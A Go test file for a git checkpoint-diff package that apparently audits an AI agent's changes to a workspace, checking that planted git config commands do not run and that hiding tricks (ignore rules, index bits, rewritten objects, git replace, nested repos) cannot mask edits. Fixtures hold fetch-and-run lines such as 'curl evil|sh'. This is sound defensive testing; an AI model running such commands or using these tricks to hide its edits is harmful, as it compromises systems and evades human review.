package checkpoint_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/keel-run/keel/internal/checkpoint"
)

func run(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@t.invalid", "-c", "commit.gpgsign=false"}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// repo makes a repository with one commit of files.
func repo(t *testing.T, files map[string]string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed: .ci/run installs it")
	}
	dir := t.TempDir()
	run(t, dir, "init", "-q")
	for n, c := range files {
		write(t, dir, n, c)
	}
	run(t, dir, "add", "-A")
	run(t, dir, "commit", "-q", "-m", "base")
	return dir
}

func TestDiff(t *testing.T) {
	dir := repo(t, map[string]string{
		"a.txt":       "one\ntwo\nthree\n",
		"gone.txt":    "bye\n",
		"same.txt":    "same\n",
		".gitignore":  "build/\n",
		"nonl.txt":    "x",
		"bin.dat":     "\x00\x01",
		"sub/keep.go": "package sub\n",
	})
	commit, dirty, err := checkpoint.Start(t.Context(), dir)
	if err != nil || len(commit) != 40 || len(dirty) != 0 {
		t.Fatalf("Start = %q %v %v", commit, dirty, err)
	}
	write(t, dir, "a.txt", "one\n2\nthree\n")
	os.Remove(filepath.Join(dir, "gone.txt"))
	write(t, dir, "new.txt", "hello\n")
	write(t, dir, "build/out.o", "ignored")
	write(t, dir, "nonl.txt", "y")
	write(t, dir, "bin.dat", "\x00\x02")
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
	if err != nil {
		t.Fatal(err)
	}
	want := []checkpoint.Change{
		{Path: "a.txt", Status: checkpoint.Modified, Added: 1, Removed: 1, Patch: "--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n"},
		{Path: "bin.dat", Status: checkpoint.Modified, Binary: true},
		{Path: "gone.txt", Status: checkpoint.Deleted, Removed: 1, Patch: "--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n"},
		{Path: "new.txt", Status: checkpoint.Added, Added: 1, Patch: "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+hello\n"},
		{Path: "nonl.txt", Status: checkpoint.Modified, Added: 1, Removed: 1, Patch: "--- a/nonl.txt\n+++ b/nonl.txt\n@@ -1 +1 @@\n-x\n\\ No newline at end of file\n+y\n\\ No newline at end of file\n"},
	}
	if d := cmp.Diff(want, changes); d != "" {
		t.Errorf("Diff (-want +got):\n%s", d)
	}
	if _, dirty, err := checkpoint.Start(t.Context(), dir); err != nil || !cmp.Equal(dirty, []string{"a.txt", "bin.dat", "gone.txt", "nonl.txt"}) {
		t.Errorf("Start on a dirty tree: dirty %v, %v", dirty, err)
	}
	skipped, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, func(p string) bool { return p != "new.txt" })
	if err != nil || len(skipped) != 1 || skipped[0].Path != "new.txt" {
		t.Errorf("Diff with skip = %+v, %v", skipped, err)
	}
}

// Start refuses a directory that is not a repository's top.
func TestStartNotRepository(t *testing.T) {
	dir := repo(t, map[string]string{"sub/x": "x\n"})
	for _, d := range []string{t.TempDir(), filepath.Join(dir, "sub")} {
		if _, _, err := checkpoint.Start(t.Context(), d); err != checkpoint.ErrNotRepository {
			t.Errorf("Start(%s) = %v, want ErrNotRepository", d, err)
		}
	}
}

// A repository an agent planted code in (an fsmonitor command, a clean
// filter, an external diff driver, a textconv) runs none of it.
func TestDiffRunsNothingFromTheRepository(t *testing.T) {
	dir := repo(t, map[string]string{"a.txt": "one\n"})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(t.TempDir(), "ran")
	cmd := "touch " + marker
	for _, kv := range [][2]string{
		{"core.fsmonitor", cmd}, {"filter.evil.clean", cmd}, {"filter.evil.process", cmd},
		{"diff.external", cmd}, {"diff.evil.textconv", cmd}, {"core.pager", cmd},
	} {
		run(t, dir, "config", kv[0], kv[1])
	}
	write(t, dir, ".gitattributes", "* filter=evil diff=evil\n")
	write(t, dir, "a.txt", "two\n")
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
	if err != nil || len(changes) != 2 {
		t.Fatalf("Diff = %+v, %v", changes, err)
	}
	if _, _, err := checkpoint.Start(t.Context(), dir); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("git ran a command planted in the repository")
	}
}

// A run that hides its changes from git (ignore rules written in the
// work tree or in .git/info/exclude, the assume-unchanged and
// skip-worktree bits, a commit of its own) hides nothing from the diff:
// it compares contents with the start's commit under the start's rules.
func TestDiffSeesThroughGitTricks(t *testing.T) {
	dir := repo(t, map[string]string{
		".gitignore": "build/\n*.pyc\n",
		"a.txt":      "a\n",
		"b.txt":      "b\n",
	})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	exclude, err := checkpoint.InfoExclude(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "build/out.o", "ignored at the start\n")
	write(t, dir, "x.pyc", "ignored at the start\n")
	write(t, dir, "payload.sh", "curl evil\n")
	write(t, dir, ".gitignore", "build/\n*.pyc\npayload.sh\n")
	write(t, dir, ".envrc", "curl evil\n")
	write(t, dir, ".git/info/exclude", ".envrc\n")
	write(t, dir, "deep/.gitignore", "*\n")
	write(t, dir, "deep/conftest.py", "import os\n")
	write(t, dir, "a.txt", "A\n")
	run(t, dir, "update-index", "--assume-unchanged", "a.txt")
	write(t, dir, "b.txt", "B\n")
	run(t, dir, "update-index", "--skip-worktree", "b.txt")
	write(t, dir, "c.txt", "c\n")
	run(t, dir, "add", "c.txt")
	run(t, dir, "commit", "-q", "-m", "hide")

	status := exec.Command("git", "-C", dir, "status", "--porcelain")
	out, err := status.Output()
	if err != nil || string(out) != " M .gitignore\n" {
		t.Fatalf("git status = %q, %v; the test's tricks should hide the rest", out, err)
	}
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Exclude: &exclude}, nil)
	if err != nil {
		t.Fatal(err)
	}
	type row struct {
		Path   string
		Status checkpoint.Status
		Hidden bool
	}
	var got []row
	for _, c := range changes {
		got = append(got, row{c.Path, c.Status, c.Hidden})
	}
	want := []row{
		{".envrc", checkpoint.Added, true},
		{".gitignore", checkpoint.Modified, false},
		{"a.txt", checkpoint.Modified, false},
		{"b.txt", checkpoint.Modified, false},
		{"c.txt", checkpoint.Added, false},
		{"deep/.gitignore", checkpoint.Added, true},
		{"deep/conftest.py", checkpoint.Added, true},
		{"payload.sh", checkpoint.Added, true},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("DiffFrom (-want +got):\n%s", d)
	}
}

// TestOrigin reads where a workspace was cloned from, without the
// credentials a URL may carry.
func TestOrigin(t *testing.T) {
	for _, tc := range []struct{ url, want string }{
		{"", ""},
		{"/srv/git/app.git", "/srv/git/app.git"},
		{"../app.git", "APP"},
		{"https://user:s3cret@git.example/org/app.git", "https://git.example/org/app.git"},
		{"https://ghp_token@git.example/org/app.git", "https://git.example/org/app.git"},
		{"git@github.com:org/app.git", "git@github.com:org/app.git"},
	} {
		dir := t.TempDir()
		ws := filepath.Join(dir, "ws")
		if err := os.Mkdir(ws, 0o755); err != nil {
			t.Fatal(err)
		}
		run(t, ws, "init", "-q")
		if tc.url != "" {
			run(t, ws, "remote", "add", "origin", tc.url)
		}
		want := tc.want
		if want == "APP" {
			want = filepath.Join(dir, "app.git")
		}
		if got := checkpoint.Origin(t.Context(), ws); got != want {
			t.Errorf("origin %q: Origin = %q, want %q", tc.url, got, want)
		}
	}
}

func gitOut(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("git %v: %v", args, err)
	}
	return strings.TrimSpace(string(out))
}

// A run that rewrites the start commit's blob, tree or commit object in
// .git/objects, or replaces the blob with git replace, must not hide
// its edit from the diff.
func TestDiffRewrittenHistory(t *testing.T) {
	evil := "import os\nos.system(\"curl evil|sh\")\ndef f():\n    return 1\n"
	// overwrite puts the object file of n in place of old's.
	overwrite := func(t *testing.T, dir, old, n string) {
		t.Helper()
		f := filepath.Join(dir, ".git", "objects", old[:2], old[2:])
		if err := os.Chmod(f, 0o644); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(filepath.Join(dir, ".git", "objects", n[:2], n[2:]))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(f, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, how := range []string{"objects", "replace", "tree", "subtree", "commit"} {
		t.Run(how, func(t *testing.T) {
			dir := repo(t, map[string]string{"a.py": "def f():\n    return 1\n", "b.txt": "b\n", "lib/a.py": "def f():\n    return 1\n"})
			commit, _, err := checkpoint.Start(t.Context(), dir)
			if err != nil {
				t.Fatal(err)
			}
			file := "a.py"
			if how == "subtree" {
				file = "lib/a.py"
			}
			old := gitOut(t, dir, "rev-parse", "HEAD:"+file)
			write(t, dir, file, evil)
			n := gitOut(t, dir, "hash-object", "-w", file)
			switch how {
			case "replace":
				run(t, dir, "replace", old, n)
			case "objects":
				overwrite(t, dir, old, n)
			case "tree", "subtree":
				// A tree that names the new blob, in place of the
				// start's tree.
				run(t, dir, "add", file)
				tree := "HEAD^{tree}"
				newTree := gitOut(t, dir, "write-tree")
				if how == "subtree" {
					tree, newTree = "HEAD:lib", newTree+":lib"
				}
				overwrite(t, dir, gitOut(t, dir, "rev-parse", tree), gitOut(t, dir, "rev-parse", newTree))
			case "commit":
				run(t, dir, "add", file)
				run(t, dir, "commit", "-q", "-m", "x")
				overwrite(t, dir, commit, gitOut(t, dir, "rev-parse", "HEAD"))
			}
			if got := gitOut(t, dir, "cat-file", "-p", commit+":"+file); !strings.Contains(got, "evil") {
				t.Fatalf("the attack did not take: git show says %q", got)
			}
			changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
			if err != nil {
				t.Fatal(err)
			}
			var got *checkpoint.Change
			for i := range changes {
				if changes[i].Path == file {
					got = &changes[i]
				}
			}
			if got == nil || !strings.Contains(got.Patch, `+os.system("curl evil|sh")`) {
				t.Fatalf("the injected line is not in the diff: %+v", changes)
			}
			if how != "replace" && !got.Rewritten {
				t.Errorf("a rewritten start object is not flagged: %+v", got)
			}
			// Only what the forged object covers is shown whole: the
			// whole tree for a commit, the files of a tree.
			want := map[string]int{"objects": 1, "replace": 1, "tree": 3, "subtree": 1, "commit": 3}[how]
			if len(changes) != want {
				t.Errorf("%d changes, want %d: %+v", len(changes), want, changes)
			}
		})
	}
}

// Files of a git repository the run made in a subfolder are new files
// of the run: git lists only the folder, the diff lists each file.
func TestDiffNestedRepository(t *testing.T) {
	dir := repo(t, map[string]string{"a.txt": "a\n"})
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	sub := filepath.Join(dir, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	run(t, sub, "init", "-q")
	write(t, sub, "install.sh", "curl evil|sh\n")
	write(t, sub, "deep/x.txt", "x\n")
	run(t, sub, "add", "-A")
	run(t, sub, "commit", "-q", "-m", "x")
	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range changes {
		got = append(got, string(c.Status)+" "+c.Path)
	}
	if diff := cmp.Diff([]string{"A sub/deep/x.txt", "A sub/install.sh"}, got); diff != "" {
		t.Errorf("changes (-want +got):\n%s", diff)
	}
}
